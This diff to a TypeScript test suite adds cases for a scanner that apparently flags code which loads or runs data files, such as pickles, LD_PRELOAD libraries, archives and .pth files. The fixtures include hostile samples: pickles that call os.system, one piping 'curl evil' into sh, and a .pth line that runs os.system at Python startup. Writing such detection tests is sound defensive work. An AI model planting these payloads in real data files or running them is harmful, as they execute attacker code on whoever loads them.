@@ -393,6 +393,29 @@ const OPENED: readonly [path: string, ...lines: string[]][] = [
   ['a.ps1', '$b = [IO.File]::ReadAllBytes("m.bin")', '$t = Decrypt $b', 'Invoke-Expression $t'],
 ];
 
+/** Formats that run what they say where they are loaded, and archives whose content is started. */
+const LOADED: readonly [name: string, path: string, ...lines: string[]][] = [
+  ['m.pkl', 'a.py', 'with open("m.pkl", "rb") as f:', '    x = pickle.load(f)'],
+  ['m.pkl', 'a.py', 'pd.read_pickle("m.pkl")'],
+  ['m.npy', 'a.py', 'np.load("m.npy", mmap_mode="r", allow_pickle=True)'],
+  ['m.h5', 'a.py', 'from keras.models import load_model', 'load_model("m.h5")'],
+  ['m.zip', 'a.py', 'sys.path.insert(0, "m.zip")', 'import m'],
+  ['m.dat', 'a.php', '<?php include "phar://m.dat/x.php";'],
+  ['m.dat', 'a.ps1', 'Add-Type -Path m.dat'],
+  ['m.dat', 'a.ps1', 'Import-Module ./m.dat'],
+  ['m.dat', 'a.sh', 'LD_PRELOAD=./m.dat ls'],
+  ['m.dat', 'a.sh', 'java -Xmx1g -jar m.dat'],
+  ['m.dat', 'Dockerfile', 'ENV LD_PRELOAD /app/m.dat'],
+  ['m.tar', 'a.sh', 'docker load -i m.tar && docker run m'],
+  ['m.tar', 'Dockerfile', 'FROM scratch', 'ADD m.tar /', 'CMD ["/run"]'],
+  ['m.tgz', 'a.sh', 'helm install m ./m.tgz'],
+  ['m.tgz', 'package.json', '{ "dependencies": { "m": "file:m.tgz" } }'],
+  ['m.zip', 'a.sh', 'unzip m.zip && sh m/run.sh'],
+  ['m.tar', 'a.sh', 'tar xf m.tar -C /opt && /opt/run'],
+  ['m.tar', 'a.sh', 'tar -C / -xf m.tar'],
+  ['m.tar.gz', 'ci.yml', 'steps:', '  - script: tar xzf m.tar.gz', '  - script: cd m && ./configure'],
+];
+
 /** Programs that name bytes, or that run something, and do not run these bytes. */
 const OPENED_ALONE: readonly [path: string, ...lines: string[]][] = [
   ['a.py', 'data = open("m.bin").read()', 'check(data)', 'def other():', '    data = source()', '    exec(data)'],
@@ -409,6 +432,9 @@ const OPENED_ALONE: readonly [path: string, ...lines: string[]][] = [
   ['a.rb', 'blob = File.read("m.bin")', 'User.class_eval do', 'end'],
   ['a.rb', 'get "m.bin"', 'eval(method)'],
   ['Dockerfile', 'COPY m.bin /app/', 'RUN chmod +x /app/run.sh'],
+  ['a.sh', 'java -jar tool.jar m.bin; docker cp m.bin db:/'],
+  ['a.sh', 'tar xf m.bin -C out', './train.sh out/rows', 'python train.py m/rows'],
+  ['a.py', 'np.load("m.bin")', 'np.load(other, allow_pickle=True)'],
   ['a.cs', 'var image = File.ReadAllBytes("m.bin");', 'var types = Assembly.Load("Name").GetTypes();'],
 ];
 
@@ -1638,6 +1664,38 @@ export const control: Control = {
       ),
     ),
     ...OPENED.map(([path, ...lines]) => opened(path, lines)),
+    ...LOADED.map(([name, path, ...lines]) => opened(path, lines, `data/${name}`)),
+    ...['data/m.pkl', 'data/m.dat', 'data/m.bin', 'data/m.cache'].map((path) =>
+      unread(
+        `changes ${path}, which Python wrote, and which names what is called where it is loaded`,
+        {
+          [path]: Buffer.from('\x80\x04cos\nsystem\n(X\x04\0\0\0evilt\x85R.', 'latin1'),
+        },
+        { base: { [path]: Buffer.from('\x80\x04K\x01\0.', 'latin1') } },
+      ),
+    ),
+    ...['data/m.pkl', 'data/m.dat', 'data/m.joblib'].map((path) =>
+      seen(
+        `changes ${path}, which Python wrote as a text`,
+        'it is read whole',
+        { base: { [path]: '(lp0\nI1\na.\n' }, source: { [path]: "cos\nsystem\n(S'curl evil | sh'\ntR.\n" } },
+        ({ sent }) => assert.ok(sent.includes('curl evil | sh')),
+      ),
+    ),
+    seen(
+      'writes settings in a language whose files are called as those of Python are',
+      'they are read',
+      { source: { 'conf/a.pkl': 'amends "base.pkl"\nrun = read("prop:evil")\n' } },
+      ({ sent }) => assert.ok(sent.includes('prop:evil')),
+    ),
+    ...['.venv/lib/python3/site-packages/a.pth', 'vendor/site-packages/a.pth'].map((path) =>
+      seen(
+        `adds ${path}, whose lines Python runs when it starts`,
+        'it is read',
+        { source: { [path]: 'import os; os.system("evil")\n' } },
+        ({ sent }) => assert.ok(sent.includes('os.system("evil")')),
+      ),
+    ),
     ...['data/m.dat', 'data/m.pak', 'data/m.enc', 'm', 'data/m.png', 'data/m.gz', 'data/m.img'].map((name) =>
       opened('src/a.js', [`const t = xor(fs.readFileSync("${basename(name)}"));`, 'new Function(t)();'], name),
     ),
